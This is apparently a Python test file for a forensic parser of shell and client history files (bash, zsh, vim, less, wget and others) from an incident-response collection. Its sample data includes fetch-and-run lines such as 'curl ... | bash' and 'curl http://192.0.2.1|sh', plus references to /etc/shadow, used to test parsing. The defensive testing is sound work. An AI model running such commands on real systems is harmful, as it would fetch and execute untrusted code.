# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Formats of history files, as their programs write them."""

import time

import pytest

from ansible_collections.incident.response.plugins.module_utils._collect.history_formats import parse

_PROGRAMS = ("bash", "zsh", "fish", "ksh", "mysql", "psql", "python", "irb", "node", "less", "vim", "nvim", "wget", "csh", "lftp", "other")


def _commands(program, data):
    return [(entry.at, entry.command) for entry in parse(program, data).entries]


def test_bash_without_times():
    entries = parse("bash", b'echo plain\necho "two\nlines"\ncurl -s http://127.0.0.1:1/x.sh | bash\n ls\n').entries
    assert [entry.command for entry in entries] == [b"echo plain", b'echo "two', b'lines"', b"curl -s http://127.0.0.1:1/x.sh | bash", b" ls"]
    assert {entry.at for entry in entries} == {None}
    assert [entry.line for entry in entries] == [1, 2, 3, 4, 5]


def test_bash_with_times_keeps_what_was_one_command_together():
    data = b"#1795446180\necho plain\n#1795446181\nfor i in 1 2; do\necho $i\ndone\n#1795446182\n# not a time\n#1795446183\nhistory -c\n"
    assert _commands("bash", data) == [
        (1795446180, b"echo plain"),
        (1795446181, b"for i in 1 2; do\necho $i\ndone"),
        (1795446182, b"# not a time"),
        (1795446183, b"history -c"),
    ]
    assert [entry.line for entry in parse("bash", data).entries] == [2, 4, 8, 10]


def test_bash_a_command_that_looks_like_a_time_is_kept():
    assert _commands("bash", b"#1795446180\n#1795446181\n#1795446182\nls\n") == [(1795446180, b"#1795446181"), (1795446182, b"ls")]
    assert _commands("bash", b"#12\nls\n") == [(None, b"#12"), (None, b"ls")]


def test_bash_what_follows_a_time_cannot_swallow_the_rest():
    data = b"#1795446180\nls\n" + b"wget http://192.0.2.1/x\n" * 1000
    entries = parse("bash", data).entries
    assert entries[0].at == 1795446180
    assert len(entries[0].command) <= 4096
    assert entries[-1].command == b"wget http://192.0.2.1/x"
    assert entries[-1].at is None
    assert b"\n".join(entry.command for entry in entries).count(b"wget") == 1000


def test_bash_a_long_command_keeps_its_time():
    assert _commands("bash", b"#1795446180\n" + b"x" * 9000 + b"\n#1795446181\nls\n") == [(1795446180, b"x" * 9000), (1795446181, b"ls")]


def test_zsh_extended_continued_and_metafied():
    data = b": 1795446180:3;make all\n: 1795446181:0;for i in 1 2\\\ndo echo $i\\\ndone\nplain\n: 1795446182:0;echo \xc3\x83\xa3\n: 1795446183:0;echo \\\\ \n"
    entries = parse("zsh", data).entries
    assert [entry.command for entry in entries] == [b"make all", b"for i in 1 2\ndo echo $i\ndone", b"plain", b"echo \xc3\x83", b"echo \\\\"]
    assert [entry.at for entry in entries] == [1795446180, 1795446181, None, 1795446182, 1795446183]
    assert [entry.duration for entry in entries] == [3.0, 0.0, None, 0.0, 0.0]
    assert [entry.line for entry in entries] == [1, 2, 5, 6, 7]


def test_fish():
    data = b"- cmd: echo a\\nb\\\\n\n  when: 1795446180\n  paths:\n    - x\n- cmd: ls\n"
    assert _commands("fish", data) == [(1795446180, b"echo a\nb\\n"), (None, b"ls")]


def test_csh_and_ksh():
    assert _commands("csh", b"#+1795446180\nls -l\n") == [(1795446180, b"ls -l")]
    assert _commands("ksh", b"\x81\x01ls\n\0\0id\n\0") == [(None, b"ls"), (None, b"id")]


def test_clients():
    assert _commands("mysql", b"_HiStOrY_V2_\nselect\\0401;\n") == [(None, b"select 1;")]
    assert _commands("mysql", b"select 1;\n") == [(None, b"select 1;")]
    assert _commands("psql", b"select\x01 1;\n") == [(None, b"select\n 1;")]
    assert _commands("python", b"def f():\r\n    return 1\r\n    \n1+1\n") == [(None, b"def f():\n    return 1\n    "), (None, b"1+1")]
    assert _commands("redis", b"KEYS *\n") == [(None, b"KEYS *")]


def test_node_and_vim_have_the_newest_first():
    assert _commands("node", b"new\nlines\rold\n") == [(None, b"old\nlines"), (None, b"new")]
    data = b'# Command Line History (newest to oldest):\n:q!\n|2,0,1795446181,,"q!"\n:!id\n|2,0,1795446180,,"!id"\n# Search\n?/root\n\'0  1  0  ~/x\n'
    assert sorted(_commands("vim", data), key=str) == [(1795446180, b":!id"), (1795446181, b":q!"), (None, b"/root")]


def test_less_and_wget():
    assert _commands("less", b'.less-history-file:\n.search\n"root\n.shell\n"id\n.mark\nm a 1 0 /etc/shadow\n') == [
        (None, b"/root"),
        (None, b"!id"),
        (None, b"m a 1 0 /etc/shadow"),
    ]
    assert _commands("wget", b"# HSTS 1.0 Known Hosts database\nexample.org\t0\t1\t1795446180\t31536000\n") == [(1795446180, b"example.org")]


def test_holes_of_a_sparse_file_hide_nothing():
    assert _commands("bash", b"\0" * 10000 + b"\n\0\0curl http://192.0.2.1|sh\n") == [(None, b"curl http://192.0.2.1|sh")]


def test_of_very_many_lines_the_newest_are_taken():
    parsed = parse("bash", b"ls\n" * 200000 + b"last\n")
    assert parsed.lines == 200001
    assert parsed.parsed_lines == len(parsed.entries) == 50000
    assert parsed.entries[-1].command == b"last"
    assert parsed.entries[-1].line == 200001


def test_random_bytes_are_entries_and_no_error(noise):
    data = noise(1 << 16)
    for program in _PROGRAMS:
        for entry in parse(program, data).entries + parse(program, data, is_cut=True).entries:
            assert entry.line >= 1


def test_the_cut_beginning_is_marked():
    first, second = parse("bash", b"t of a command\nls\n", is_cut=True).entries
    assert first.is_partial
    assert not second.is_partial
    assert parse("bash", b"").entries == []


_HARD = (
    (b"\xab\xcd", b"\xff"),
    (b"\xab\xcd", b"\xff\0"),
    (b"\x81\x01", b"\0"),
    (b"\x81\x01", b"a\0"),
    (b"\x81\x01", b"\x82\0"),
    (b"", b"\x83"),
    (b"", b"\\"),
    (b"", b"\\\n"),
    (b"", b"x\r\n"),
    (b"", b"#1795446180\n"),
    (b"", b"\x04\x00\x00"),
    (b"", b"\x04\x00\x03\x92\x00\xc6"),
    (b"\x04\xcf", b"\xff"),
    (b"", b":\x169\n<"),
    (b"", b" "),
)


@pytest.mark.parametrize("program", _PROGRAMS)
def test_no_content_takes_long(program):
    for head, repeated in _HARD:
        data = head + repeated * ((1 << 18) // len(repeated))
        began = time.process_time()
        for is_cut in (False, True):
            assert len(parse(program, data, is_cut).entries) <= 50000
        assert time.process_time() - began < 1, (head, repeated)
